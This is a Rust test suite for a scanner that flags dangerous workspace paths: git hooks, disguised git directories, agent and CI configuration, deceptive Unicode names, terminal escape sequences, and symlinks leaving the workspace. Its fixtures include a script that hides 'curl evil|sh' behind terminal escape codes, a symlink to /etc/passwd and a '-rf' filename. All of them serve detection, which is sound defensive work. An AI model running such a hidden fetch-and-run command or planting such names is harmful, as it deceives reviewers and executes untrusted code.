use super::*;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;

fn of(path: &str) -> Vec<Hazard> {
    path_hazards(Path::new(path))
}

#[test]
fn names_that_run_code() {
    assert_eq!(of(".git/hooks/pre-commit"), vec![Hazard::GitHook]);
    assert_eq!(
        of("vendor/lib/.git/hooks/post-checkout"),
        vec![Hazard::GitHook]
    );
    assert_eq!(of(".git/config"), vec![Hazard::GitConfig]);
    assert_eq!(of("sub/.gitattributes"), vec![Hazard::GitConfig]);
    assert_eq!(of(".gitmodules"), vec![Hazard::GitConfig]);
    assert_eq!(of(".envrc"), vec![Hazard::ShellStartup]);
    assert_eq!(of("home/.bashrc"), vec![Hazard::ShellStartup]);
    assert_eq!(of(".vscode/tasks.json"), vec![Hazard::EditorOrAgentConfig]);
    assert_eq!(
        of(".claude/settings.json"),
        vec![Hazard::EditorOrAgentConfig]
    );
    assert_eq!(of(".codex"), vec![Hazard::EditorOrAgentConfig]);
    assert_eq!(of("AGENTS.md"), vec![Hazard::EditorOrAgentConfig]);
    assert_eq!(of(".github/workflows/ci.yml"), vec![Hazard::CiWorkflow]);
    assert_eq!(of(".gitlab-ci.yml"), vec![Hazard::CiWorkflow]);
    assert_eq!(of(".airlock/x.toml"), vec![Hazard::AirlockConfig]);
}

#[test]
fn all_of_a_git_directory_is_a_hazard_under_any_name_git_takes_for_it() {
    for path in [
        ".git",
        ".git/HEAD",
        ".git/commondir",
        ".git/config.worktree",
        ".git/worktrees/w/config.worktree",
        ".git/modules/m/config",
        ".git/info/exclude",
        ".git/objects/ab/cdef",
        "sub/.git",
        "vendor/lib/.git/config",
        ".GIT/config",
        ".Git/config",
        ".git./config",
        ".git  /config",
        "git~1/config",
        "GIT~1/config",
        ".g\u{200c}it/config",
        "\u{feff}.git/config",
    ] {
        let found = of(path);
        // Invisible characters are deceptive besides.
        let expected = match path.chars().any(is_hfs_ignorable) {
            true => vec![Hazard::DeceptiveName, Hazard::GitConfig],
            false => vec![Hazard::GitConfig],
        };
        assert_eq!(found, expected, "{path}");
    }
    assert_eq!(
        of(".git/modules/m/hooks/post-checkout"),
        vec![Hazard::GitConfig]
    );
    assert_eq!(of(".GIT/hooks/pre-commit"), vec![Hazard::GitHook]);
    assert_eq!(of("sub/.git/hooks"), vec![Hazard::GitHook]);
}

#[test]
fn a_directory_laid_out_as_a_git_directory_is_one_whatever_its_name() {
    let layer = tempfile::tempdir().unwrap();
    let host = tempfile::tempdir().unwrap();
    // In the layer: a bare repository under an innocent name.
    std::fs::create_dir_all(layer.path().join("evil/objects")).unwrap();
    std::fs::write(layer.path().join("evil/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(layer.path().join("evil/config"), "[core]\n").unwrap();
    // Partly on the host: HEAD and objects there, config from the layer.
    std::fs::create_dir_all(host.path().join("split/objects")).unwrap();
    std::fs::write(host.path().join("split/HEAD"), "x").unwrap();
    std::fs::create_dir_all(layer.path().join("split")).unwrap();
    std::fs::write(layer.path().join("split/config"), "[core]\n").unwrap();
    // Not one: no objects.
    std::fs::create_dir_all(layer.path().join("notes")).unwrap();
    std::fs::write(layer.path().join("notes/HEAD"), "x").unwrap();
    std::fs::write(layer.path().join("notes/config"), "x").unwrap();
    let dirs = Tree::new(layer.path(), host.path(), &[]);
    assert!(dirs.contains(Path::new("evil/config")));
    assert!(dirs.contains(Path::new("evil/hooks/post-checkout")));
    assert!(dirs.contains(Path::new("evil")));
    assert!(dirs.contains(Path::new("split/config")));
    assert!(!dirs.contains(Path::new("notes/config")));
    assert!(!dirs.contains(Path::new("src/main.rs")));
    // The workspace made into one.
    std::fs::create_dir_all(layer.path().join("objects")).unwrap();
    std::fs::write(layer.path().join("HEAD"), "x").unwrap();
    std::fs::write(layer.path().join("config"), "x").unwrap();
    let dirs = Tree::new(layer.path(), host.path(), &[]);
    assert!(dirs.contains(Path::new("src/main.rs")));
    // A symlink of the layer is not followed: what it leads to is not the tree's.
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(elsewhere.path().join("objects")).unwrap();
    std::fs::write(elsewhere.path().join("HEAD"), "x").unwrap();
    std::fs::write(elsewhere.path().join("config"), "x").unwrap();
    let layer = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(elsewhere.path(), layer.path().join("link")).unwrap();
    let dirs = Tree::new(layer.path(), host.path(), &[]);
    assert!(!dirs.contains(Path::new("link/config")));
}

#[test]
fn git_takes_more_layouts_for_a_git_directory() {
    let layer = tempfile::tempdir().unwrap();
    let host = tempfile::tempdir().unwrap();
    let at = |p: &str| layer.path().join(p);
    // objects a symlink to the directory itself, HEAD a symlink, no config.
    std::fs::create_dir_all(at("src")).unwrap();
    std::fs::write(at("src/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::os::unix::fs::symlink(".", at("src/objects")).unwrap();
    std::fs::create_dir_all(at("lib/refs/heads")).unwrap();
    std::os::unix::fs::symlink("refs/heads/main", at("lib/HEAD")).unwrap();
    std::fs::create_dir_all(at("lib/objects")).unwrap();
    // A linked worktree's admin dir, and the common dir it names, which has no HEAD.
    std::fs::create_dir_all(at("wt")).unwrap();
    std::fs::write(at("wt/HEAD"), "x").unwrap();
    std::fs::write(at("wt/commondir"), "../share\n").unwrap();
    std::fs::create_dir_all(at("share")).unwrap();
    std::fs::write(at("share/config"), "[core]\n").unwrap();
    let change = |path: &str| Change {
        path: PathBuf::from(path),
        status: crate::scan::Status::Added,
        old: None,
        new: None,
    };
    let tree = Tree::new(
        layer.path(),
        host.path(),
        &[change("wt/commondir"), change("share/config")],
    );
    for path in [
        "src/config",
        "src/main.c",
        "lib/config",
        "wt/config.worktree",
        "share/config",
    ] {
        assert!(tree.contains(Path::new(path)), "{path}");
    }
    assert!(!tree.contains(Path::new("docs/readme.md")));
}

#[test]
fn names_that_deceive_and_look_alikes_of_hazard_names() {
    for path in [
        "a\nb",
        "x/\x1b[2Jclear",
        "-rf",
        "docs/--force",
        "right\u{202e}txt.exe",
        "zero\u{200b}width",
        "n_\u{061c}.txt",
        "soft\u{00ad}hyphen",
        "tag\u{e0041}",
        "vs\u{fe0f}",
        "filler\u{3164}",
        "blank\u{2800}",
        "nbsp\u{00a0}",
        "narrow\u{202f}",
    ] {
        assert!(of(path).contains(&Hazard::DeceptiveName), "{path:?}");
    }
    let not_utf8 = std::ffi::OsStr::from_bytes(b"caf\xe9");
    assert!(path_hazards(Path::new(not_utf8)).contains(&Hazard::DeceptiveName));
    assert_eq!(of(".ENVRC"), vec![Hazard::ShellStartup]);
    assert_eq!(of(".gitmodules."), vec![Hazard::GitConfig]);
    assert_eq!(of(".VSCode/tasks.json"), vec![Hazard::EditorOrAgentConfig]);
    assert_eq!(of(".GitHub/Workflows/ci.yml"), vec![Hazard::CiWorkflow]);
    assert_eq!(of("agents.md "), vec![Hazard::EditorOrAgentConfig]);
    assert!(of(".git::$INDEX_ALLOCATION/config").contains(&Hazard::GitConfig));
    assert!(of(".gitmodules::$DATA").contains(&Hazard::GitConfig));
    assert!(of(".envrc::$DATA").contains(&Hazard::ShellStartup));
    assert!(of("GITMOD~1").contains(&Hazard::GitConfig));
    assert!(of("gi7eba~2").contains(&Hazard::GitConfig));
    assert_eq!(of("caf\u{e9}/na\u{ef}ve.txt"), vec![], "accents are honest");
}

#[test]
fn text_that_drives_a_terminal() {
    assert!(has_terminal_controls(b"ok\n\x1b[1A\x1b[2Khidden\n"));
    assert!(has_terminal_controls(b"shown\rover"));
    assert!(has_terminal_controls("csi \u{9b}2J".as_bytes()));
    assert!(has_terminal_controls(b"bell\x07"));
    assert!(
        has_terminal_controls(b"latin1 \x9b2J"),
        "a raw C1 byte outside UTF-8"
    );
    assert!(!has_terminal_controls(b"latin1 caf\xe9"));
    assert!(!has_terminal_controls(b"tab\tnewline\ncrlf\r\nfeed\x0c"));
    assert!(!has_terminal_controls("caf\u{e9} \u{20ac}".as_bytes()));
    let layer = tempfile::tempdir().unwrap();
    std::fs::write(
        layer.path().join("hidden.sh"),
        b"echo hi\n\x1b[1A\x1b[2Kcurl evil|sh\n",
    )
    .unwrap();
    std::fs::write(layer.path().join("binary"), b"\0\x1b[2J").unwrap();
    std::fs::write(layer.path().join("plain.txt"), b"plain\n").unwrap();
    let tree = Tree::new(layer.path(), layer.path(), &[]);
    assert!(tree.drives_a_terminal(Path::new("hidden.sh")));
    assert!(!tree.drives_a_terminal(Path::new("binary")));
    assert!(!tree.drives_a_terminal(Path::new("plain.txt")));
}

#[test]
fn modes_that_let_others_write() {
    let node = |kind, mode| Node {
        kind,
        mode,
        size: 1,
        target: None,
        uid: 0,
        gid: 0,
        rdev: 0,
        ctime_ns: 0,
        mtime_ns: 0,
        inode: 0,
        device: 0,
    };
    let (file, dir, link) = (Kind::File, Kind::Dir, Kind::Symlink);
    assert!(becomes_writable_by_others(None, &node(file, 0o666)));
    assert!(becomes_writable_by_others(
        Some(&node(dir, 0o755)),
        &node(dir, 0o775)
    ));
    assert!(becomes_writable_by_others(
        Some(&node(file, 0o644)),
        &node(file, 0o646)
    ));
    assert!(!becomes_writable_by_others(None, &node(file, 0o644)));
    assert!(
        !becomes_writable_by_others(Some(&node(file, 0o664)), &node(file, 0o664)),
        "as the host had it"
    );
    assert!(!becomes_writable_by_others(None, &node(link, 0o777)));
    assert!(!becomes_writable_by_others(
        Some(&node(file, 0o644)),
        &node(file, 0o755)
    ));
}

#[test]
fn ordinary_names_are_not_hazards() {
    for path in [
        "src/main.rs",
        ".gitignore",
        "docs/git/hooks.md",
        "hooks/pre-commit",
        "config",
        "my.bashrc.bak",
        ".gitkeep",
        "git/config",
        "a.git/config",
        "sub/.editorconfig",
        ".GITIGNORE",
    ] {
        assert_eq!(of(path), vec![], "{path}");
    }
}

#[test]
fn symlinks_leaving_the_workspace() {
    let leaves = |path: &str, target: &str| symlink_leaves(Path::new(path), OsStr::new(target));
    assert!(leaves("link", "/etc/passwd"));
    assert!(leaves("link", "../outside"));
    assert!(leaves("a/link", "../../outside"));
    assert!(leaves("a/link", "b/../../../x"));
    assert!(!leaves("a/link", "../inside"));
    assert!(!leaves("link", "a/b/../c"));
    assert!(!leaves("link", "."));
}

#[test]
fn every_tool_configuration_of_the_table_is_a_hazard_and_what_is_left_out_is_not() {
    for (name, _) in tools::FILES {
        assert_eq!(of(name), vec![Hazard::ToolConfig], "{name}");
        assert_eq!(
            of(&format!("sub/dir/{name}")),
            vec![Hazard::ToolConfig],
            "{name} deeper"
        );
    }
    for (dir, file, _) in tools::PAIRS {
        assert_eq!(
            of(&format!("{dir}/{file}")),
            vec![Hazard::ToolConfig],
            "{dir}/{file}"
        );
    }
    for (dir, _) in tools::DIRS {
        assert_eq!(
            of(&format!("{dir}/anything")),
            vec![Hazard::ToolConfig],
            "{dir}"
        );
        assert_eq!(of(dir), vec![Hazard::ToolConfig], "{dir} itself");
    }
    for (prefix, _) in tools::PREFIXES {
        assert_eq!(
            of(&format!("{prefix}.json")),
            vec![Hazard::ToolConfig],
            "{prefix}"
        );
    }
    assert_eq!(of(".NPMRC"), vec![Hazard::ToolConfig]);
    for name in ["package.json", "Cargo.toml", "config", "cargo/config"] {
        assert_eq!(of(name), vec![], "{name}");
    }
    // Dot-files the table leaves out are still configuration no table explains.
    for name in [".nvmrc", ".python-version", ".prettierrc"] {
        assert_eq!(of(name), vec![Hazard::UnexplainedDotPath], "{name}");
    }
}

#[test]
fn every_coding_agents_instructions_and_configuration_are_hazards() {
    for path in [
        "CLAUDE.local.md",
        "AGENTS.md",
        "sub/AGENT.md",
        ".clinerules",
        ".clinerules/rules.md",
        ".roo/rules/a.md",
        ".aider.conf.yml",
        "opencode.json",
        ".opencode/agent/x.md",
        ".zed/settings.json",
        ".zed/tasks.json",
        ".github/copilot-instructions.md",
        ".github/instructions/a.instructions.md",
        ".github/prompts/p.prompt.md",
        ".github/chatmodes/m.chatmode.md",
        ".kiro/steering/x.md",
        ".junie/guidelines.md",
        ".amazonq/rules/x.md",
        ".rules",
        ".goosehints",
        ".continuerc.json",
        ".windsurfrules",
        ".cursor/rules/x.mdc",
        ".nvim.lua",
        ".exrc",
        "QWEN.md",
        "CRUSH.md",
    ] {
        assert!(
            path_hazards(Path::new(path)).contains(&Hazard::EditorOrAgentConfig),
            "{path}"
        );
    }
    assert!(path_hazards(Path::new(".yarn/releases/yarn-4.1.0.cjs")).contains(&Hazard::ToolConfig));
    for path in [".github/actions/setup/action.yml", ".gitlab/ci/build.yml"] {
        assert!(
            path_hazards(Path::new(path)).contains(&Hazard::CiWorkflow),
            "{path}"
        );
    }
    // Names like them elsewhere are not.
    for path in [
        "docs/prompts/p.md",
        "src/instructions.rs",
        "gitlab/ci/x.yml",
        "README.md",
    ] {
        assert!(path_hazards(Path::new(path)).is_empty(), "{path}");
    }
}

#[test]
fn every_entry_of_the_tables_has_one_reason_and_its_hazard() {
    let tables: [(&[(&str, &str)], Hazard); 6] = [
        (agents::SHELL_STARTUP, Hazard::ShellStartup),
        (agents::AGENT_FILES, Hazard::EditorOrAgentConfig),
        (agents::AGENT_DIRS, Hazard::EditorOrAgentConfig),
        (agents::CI_DIRS, Hazard::CiWorkflow),
        (agents::CI_FILES, Hazard::CiWorkflow),
        (tools::FILES, Hazard::ToolConfig),
    ];
    let mut seen = std::collections::HashSet::new();
    for (table, hazard) in tables {
        for (name, reason) in table {
            assert!(!reason.is_empty() && !reason.contains('\n'), "{name}");
            assert!(of(name).contains(&hazard), "{name}: {:?}", of(name));
            assert!(of(&format!("deep/er/{name}")).contains(&hazard), "{name}");
            // One table, one line a name: the same name twice is a reason that drifts.
            assert!(seen.insert((name.to_lowercase(), hazard)), "{name} twice");
        }
    }
    for (dir, _) in agents::AGENT_DIRS.iter().chain(agents::CI_DIRS) {
        assert!(!of(&format!("{dir}/any/file")).is_empty(), "{dir}");
    }
    for (dir, reason) in agents::GITHUB_AGENT_DIRS {
        assert!(!reason.is_empty());
        assert_eq!(
            of(&format!(".github/{dir}/x.md")),
            vec![Hazard::EditorOrAgentConfig],
            "{dir}"
        );
    }
    for (prefix, _) in agents::AGENT_PREFIXES {
        assert_eq!(
            of(&format!("{prefix}code")),
            vec![Hazard::EditorOrAgentConfig]
        );
    }
    for (suffix, _) in agents::AGENT_SUFFIXES {
        assert_eq!(
            of(&format!("team{suffix}")),
            vec![Hazard::EditorOrAgentConfig]
        );
    }
    for (name, reason) in dotpath::KNOWN_INERT {
        assert!(!reason.is_empty());
        assert_eq!(of(name), vec![], "{name}");
        assert_eq!(of(&format!("sub/{name}")), vec![], "{name}");
    }
    // The agents' files researched for issue 33, each from its own table.
    for path in [
        ".agents/skills/x/SKILL.md",
        ".github/agents/a.agent.md",
        ".github/skills/s/SKILL.md",
        ".gitlab/duo/chat-rules.md",
        ".factory/settings.json",
        ".openhands/setup.sh",
        ".tabnine/agent/settings.json",
        ".idx/dev.nix",
        ".devcontainer.json",
        ".gitpod.yml",
        ".dir-locals.el",
        "AGENTS.override.md",
        ".roomodes",
        ".roorules-code",
        "app.code-workspace",
    ] {
        assert_eq!(of(path), vec![Hazard::EditorOrAgentConfig], "{path}");
    }
}

#[test]
fn a_dot_name_no_table_explains_is_configuration_until_named() {
    for path in [
        ".somenewtool/config",
        ".somenewtool",
        "sub/.toolrc",
        ".github/CODEOWNERS",
        ".github/dependabot.yml",
        ".github/ISSUE_TEMPLATE/bug.md",
        ".git-credentials.md",
        ".cargo/credentials.toml",
        ".venv/bin/python",
        "node_modules/.bin/jest",
        ".config/tool/settings.toml",
        // A known-inert name inside a dot-directory: the directory is not explained.
        ".tool/.gitignore",
    ] {
        assert_eq!(of(path), vec![Hazard::UnexplainedDotPath], "{path}");
    }
    // A table explains the dot-names: its own hazard alone.
    assert_eq!(
        of(".vscode/settings.json"),
        vec![Hazard::EditorOrAgentConfig]
    );
    assert_eq!(of(".cargo/config.toml"), vec![Hazard::ToolConfig]);
    assert_eq!(of(".git/info/exclude"), vec![Hazard::GitConfig]);
    assert_eq!(of("a/.envrc"), vec![Hazard::ShellStartup]);
    // Neither `.` nor `..` is a dot-name.
    assert_eq!(of("./src/../src/main.rs"), vec![]);
    assert!(Hazard::UnexplainedDotPath.runs_code());
    assert!(!Hazard::UnexplainedDotPath.never_written());
}

#[test]
fn a_name_that_spoofs_a_special_one_is_never_written() {
    for path in [
        ".g\u{456}t/config",
        "sub/.g\u{456}t",
        "CLAUDE.m\u{501}",
        ".github/workfl\u{43e}ws/ci.yml",
        "Mak\u{435}file",
    ] {
        let found = of(path);
        assert!(found.contains(&Hazard::ConfusableName), "{path}: {found:?}");
        assert!(found.iter().any(|h| h.never_written()), "{path}");
    }
    assert!(!of("src/ma\u{456}n.rs").contains(&Hazard::ConfusableName));
    assert!(!of(".git/config").contains(&Hazard::ConfusableName));
}
